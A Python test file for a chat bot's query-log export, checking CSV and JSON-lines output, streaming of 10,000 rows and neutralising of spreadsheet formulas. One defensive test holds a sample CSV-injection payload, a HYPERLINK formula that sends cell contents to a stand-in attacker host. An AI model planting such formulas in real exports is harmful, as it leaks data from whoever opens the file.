"""The log as CSV or JSON lines: the same rows, formulas inert, streamed."""

from __future__ import annotations

import csv
import gzip
import io
import json
from pathlib import Path

from bot.querylog.clock import iso
from bot.querylog.dialect import SQLITE, LogConnection, dialect_of
from bot.querylog.export import export
from bot.querylog.filters import Filters
from bot.querylog.listings import recent
from bot.querylog.records import EXPORT_COLUMNS
from bot.querylog.scope import EVERYTHING
from bot.querylog.votes import record_vote
from tests.querylog.rows import HOSTILE, NOW, add


def test_csv_export_equals_the_rows(db: LogConnection) -> None:
    for n, text in enumerate(HOSTILE[:10]):
        add(db, interaction_id=n, query=text + "\nsecond line, with comma")
    record_vote(db, EVERYTHING, 3, 1, -1, ["doc#1"])
    out = io.BytesIO()
    assert export(db, EVERYTHING, Filters(), "csv", out) == 10
    parsed = list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8"), newline="")))
    expected = recent(db, EVERYTHING, Filters(), page_size=100).rows[::-1]
    assert [row["query"] for row in parsed] == [row.query for row in expected]
    assert tuple(parsed[0]) == EXPORT_COLUMNS
    assert parsed[3]["votes_down"] == "1" and parsed[3]["interaction_id"] == "3"


def test_csv_export_cannot_run_formulas_in_a_spreadsheet(db: LogConnection) -> None:
    """A member's question or name opening with =, +, -, @ (or a tab or carriage return) is a
    formula to Excel and LibreOffice: the moderator opening the export would run it."""
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd", "-2+3", "@SUM(1)"]
    for n, text in enumerate([*formulas, "\tx", "\rx"]):
        add(db, interaction_id=n, query=text, user_name=text)
    add(db, interaction_id=9, query="a = b - c", user_name="ann", results=[])
    out = io.BytesIO()
    assert export(db, EVERYTHING, Filters(), "csv", out) == 7
    parsed = list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8"), newline="")))
    for row, text in zip(parsed, [*formulas, "\tx", "\rx"], strict=False):
        assert row["query"] == row["user_name"] == "'" + text
    assert parsed[-1]["query"] == "a = b - c" and parsed[-1]["results"] == "[]"
    assert parsed[0]["top_score"] == "5.0" and parsed[0]["votes_down"] == "0"


def test_jsonl_export_equals_the_rows(db: LogConnection) -> None:
    add(db, interaction_id=1, query="first")
    add(db, interaction_id=2, query="sécond", outcome="no_results", results=[])
    out = io.BytesIO()
    found = export(db, EVERYTHING, Filters(contains="É"), "jsonl", out)
    # SQLite's LIKE folds ASCII letters only, PostgreSQL's ILIKE every letter.
    assert found == (0 if dialect_of(db) == SQLITE else 1)
    out = io.BytesIO()
    assert export(db, EVERYTHING, Filters(), "jsonl", out) == 2
    lines = [json.loads(line) for line in out.getvalue().decode().splitlines()]
    stored = [dict(r) for r in db.execute("SELECT * FROM queries ORDER BY id")]
    for line, row in zip(lines, stored, strict=True):
        assert line["results"] == json.loads(row["results"])
        columns = row.keys() - {"results", "query_key"}  # the grouping key is not exported
        assert {k: line[k] for k in columns} == {k: row[k] for k in columns}


def test_export_streams_many_rows(db: LogConnection, tmp_path: Path) -> None:
    db.execute(
        "WITH RECURSIVE n(i) AS (SELECT 0 UNION ALL SELECT i + 1 FROM n WHERE i < 9999) "
        "INSERT INTO queries (interaction_id, created_at, user_id, user_name, command, query,"
        " outcome, latency_ms) SELECT i, ?, 1, 'alice', 'ask', 'question ' || i, 'answered', 1.0"
        " FROM n",
        [iso(NOW)],
    )
    target = tmp_path / "export.jsonl.gz"
    with gzip.open(target, "wb") as out:
        assert export(db, EVERYTHING, Filters(), "jsonl", out) == 10_000
    with gzip.open(target, "rt", encoding="utf-8") as back:
        assert sum(1 for _ in back) == 10_000
